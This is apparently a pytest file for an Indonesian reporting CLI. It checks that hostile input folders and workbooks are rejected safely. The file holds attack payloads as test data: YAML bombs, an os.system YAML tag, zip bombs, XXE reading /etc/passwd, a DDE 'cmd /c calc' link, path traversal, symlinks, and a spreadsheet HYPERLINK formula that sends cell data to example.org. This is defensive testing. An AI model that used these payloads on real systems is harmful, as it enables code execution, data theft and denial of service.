"""Hostile files of every kind, given to the program from outside: refused by name, within bounds, nothing written.

Each runs in a process of its own that may use 512 MiB of addresses and 20 seconds of processor, and whose folder is
compared byte by byte afterwards.
"""

import csv
import io
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from tests.cli.pintu import CONTOH, Hasil, Pintu, lingkungan
from tests.intake.buku_jahat import HUBUNGAN, LEMBAR, arsip_palsu, bom, buku, data, hubungan

pytest.importorskip("resource", reason="limits of a process are a matter of POSIX systems")

_PROGRAM = """\
import resource
resource.setrlimit(resource.RLIMIT_AS, (512 << 20, 512 << 20))
resource.setrlimit(resource.RLIMIT_CPU, (20, 20))
from akuntabel.cli import main
main()
"""
RAHASIA = "isi berkas yang bukan milik kantor"
Rusak = Callable[[Path], None]


def terbatas(*argumen: str | Path) -> Hasil:
    """The program in a process that is killed when it takes too much."""
    perintah = [sys.executable, "-c", _PROGRAM, *map(str, argumen)]
    anak = subprocess.run(perintah, capture_output=True, encoding="utf-8", env=lingkungan(), timeout=120, check=False)
    return Hasil(anak.returncode, anak.stdout, anak.stderr)


def isi_folder(folder: Path) -> dict[str, bytes | str]:
    """Every file below a folder with its bytes, every link with its target."""
    return {
        p.relative_to(folder).as_posix(): str(p.readlink()) if p.is_symlink() else p.read_bytes()
        for p in folder.rglob("*")
        if p.is_symlink() or p.is_file()
    }


def _tulis(berkas: str, isi: str | bytes) -> Rusak:
    def rusak(kantor: Path) -> None:
        (kantor / berkas).write_bytes(isi if isinstance(isi, bytes) else isi.encode())

    return rusak


def _tambah(berkas: str, isi: str | bytes) -> Rusak:
    def rusak(kantor: Path) -> None:
        with (kantor / berkas).open("ab") as keluar:
            keluar.write(isi if isinstance(isi, bytes) else isi.encode())

    return rusak


def _tautan(berkas: str, tujuan: str) -> Rusak:
    def rusak(kantor: Path) -> None:
        (kantor / berkas).unlink(missing_ok=True)
        (kantor / berkas).symlink_to(tujuan)

    return rusak


def _paket(letak: str) -> Rusak:
    def rusak(kantor: Path) -> None:
        berkas = kantor / "kantor.yaml"
        asli = berkas.read_text(encoding="utf-8")
        assert "paket: djp/kpp/2024" in asli
        berkas.write_text(asli.replace("paket: djp/kpp/2024", f"paket: {letak}"), encoding="utf-8")

    return rusak


def _bom_acuan() -> str:
    return "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12))


SEJUTA = "7c-N;T4;;DISETUJUI;9;;\n" * 150_000
FOLDER: dict[str, tuple[Rusak, str]] = {
    "bom acuan YAML": (_tulis("renstra.yaml", _bom_acuan()), "YAML_SALAH"),
    "tag YAML": (_tambah("renstra.yaml", "\nx: !!python/object/apply:os.system ['touch TERJALANKAN']\n"), "YAML_SALAH"),
    "YAML sedalam jurang": (_tulis("renstra.yaml", "[" * 100_000), "YAML_SALAH"),
    "sejuta baris": (_tambah("realisasi.csv", SEJUTA), "TERLALU_BANYAK"),
    "berkas raksasa": (_tulis("narasi/penutup.md", b"a" * 60_000_000), "BERKAS_TIDAK_TERBACA"),
    "UTF-16": (_tulis("realisasi.csv", "kode;periode;komponen;nilai\n".encode("utf-16")), "BERKAS_TIDAK_TERBACA"),
    "pengodean rusak": (_tambah("realisasi.csv", b"7c-N;T4;;DISETUJUI;9;\xff\xfe;\n"), "BERKAS_TIDAK_TERBACA"),
    "tautan ke berkas lain": (_tautan("renstra.yaml", "../rahasia.yaml"), "TAUTAN_SIMBOLIK"),
    "tautan tanpa ujung": (_tautan("realisasi.csv", "/dev/zero"), "TAUTAN_SIMBOLIK"),
    "tautan ke dirinya": (_tautan("narasi/penutup.md", "penutup.md"), "TAUTAN_SIMBOLIK"),
    "paket di luar folder": (_paket("./../../etc"), "PAKET_LETAK_DITOLAK"),
    "paket mutlak": (_paket("/etc"), "PAKET_LETAK_DITOLAK"),
}
BUKU: dict[str, tuple[bytes, str]] = {
    "bom zip": (arsip_palsu("xl/bom.bin", bom(2_000_000_000), mengaku=2_000_000_000), "BUKU_TERLALU_BESAR"),
    "bom zip yang berbohong": (arsip_palsu("xl/bom.bin", bom(2_000_000_000), mengaku=90_000_000), "BUKU_RUSAK"),
    "sejuta baris": (buku({LEMBAR: data("<row/>" * 1_000_001)}), "BUKU_TERLALU_BESAR"),
    "makro": (buku({"xl/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1")}), "MAKRO_DITOLAK"),
    "buku kerja lain": (
        buku({"xl/externalLinks/_rels/e.xml.rels": hubungan("externalLinkPath", "file:///rekap.xlsx")}),
        "TAUTAN_LUAR_DITOLAK",
    ),
    "DDE": (
        buku({"xl/e.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
        "TAUTAN_LUAR_DITOLAK",
    ),
    "entitas luar": (
        buku({LEMBAR: f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>{data("&a;")}'}),
        "BUKU_BERBAHAYA",
    ),
    "path": (buku({"../../lolos.xml": "<x/>"}), "BUKU_BERBAHAYA"),
    "pengodean rusak": (buku({LEMBAR: b"<worksheet>\xff\xfe</worksheet>"}), "BUKU_RUSAK"),
    "terpotong": (buku()[:-40], "BUKU_RUSAK"),
    "tanpa lembar": (buku({HUBUNGAN: None}), "BUKU_TIDAK_TERBACA"),
}


@pytest.mark.parametrize("jenis", FOLDER)
def test_a_hostile_folder_is_refused_by_name_within_bounds_and_nothing_is_written(tmp_path: Path, jenis: str) -> None:
    rusak, kode = FOLDER[jenis]
    kantor = tmp_path / "kantor"
    shutil.copytree(CONTOH, kantor)
    (tmp_path / "rahasia.yaml").write_text(RAHASIA, encoding="utf-8")
    rusak(kantor)
    semula = isi_folder(tmp_path)

    hasil = terbatas("laporan", kantor, "-o", tmp_path / "keluaran")

    assert (hasil.kode, hasil.keluar) == (1, "")
    assert f"[{kode}]" in hasil.galat
    assert "Tidak ada yang" in hasil.galat
    assert RAHASIA not in hasil.galat
    assert "Traceback" not in hasil.galat
    assert isi_folder(tmp_path) == semula


@pytest.mark.parametrize("jenis", BUKU)
def test_a_hostile_workbook_is_refused_by_name_within_bounds_and_nothing_is_written(tmp_path: Path, jenis: str) -> None:
    isi, kode = BUKU[jenis]
    berkas = tmp_path / "kiriman.xlsx"
    berkas.write_bytes(isi)

    hasil = terbatas("ubah", berkas, tmp_path / "folder")

    assert (hasil.kode, hasil.keluar) == (1, "")
    assert f"[{kode}]" in hasil.galat
    assert "Traceback" not in hasil.galat
    assert isi_folder(tmp_path) == {"kiriman.xlsx": isi}


def test_a_formula_typed_as_text_stays_text_in_every_file_that_others_open(pintu: Pintu, tmp_path: Path) -> None:
    rumus = '=HYPERLINK("http://example.org/?"&A1,"klik")'
    kantor = tmp_path / "kantor"
    shutil.copytree(CONTOH, kantor)
    with (kantor / "rencana-aksi.csv").open("a", encoding="utf-8", newline="") as berkas:
        csv.writer(berkas, delimiter=";").writerow(["7c-N", rumus, "@SUM(A1)", "2025-06-30", "rencana"])

    assert pintu("laporan", kantor, "-o", tmp_path, "--jenis", "xlsx").kode == 0
    assert pintu("ubah", kantor, tmp_path / "kantor.xlsx").kode == 0
    for nama in ("kartu-kinerja-2024.xlsx", "kantor.xlsx"):
        sel = [s for lembar in openpyxl.load_workbook(tmp_path / nama) for baris in lembar for s in baris if s.value]
        assert not [s.coordinate for s in sel if s.data_type == "f" and ("HYPER" in s.value or "SUM(A1)" in s.value)]
    assert {(s.value, s.data_type) for s in sel if s.value in (rumus, "@SUM(A1)")} == {(rumus, "s"), ("@SUM(A1)", "s")}

    _tambah("realisasi.csv", "=1+1;T4;;DISETUJUI;9;;;\n")(kantor)
    daftar = pintu("periksa", kantor, "--format", "csv")
    isian = [s for baris in csv.reader(io.StringIO(daftar.keluar)) for s in baris]
    assert (daftar.kode, any("=1+1" in s for s in isian)) == (1, True)
    assert not [s for s in isian if s.startswith(("=", "+", "-", "@"))]
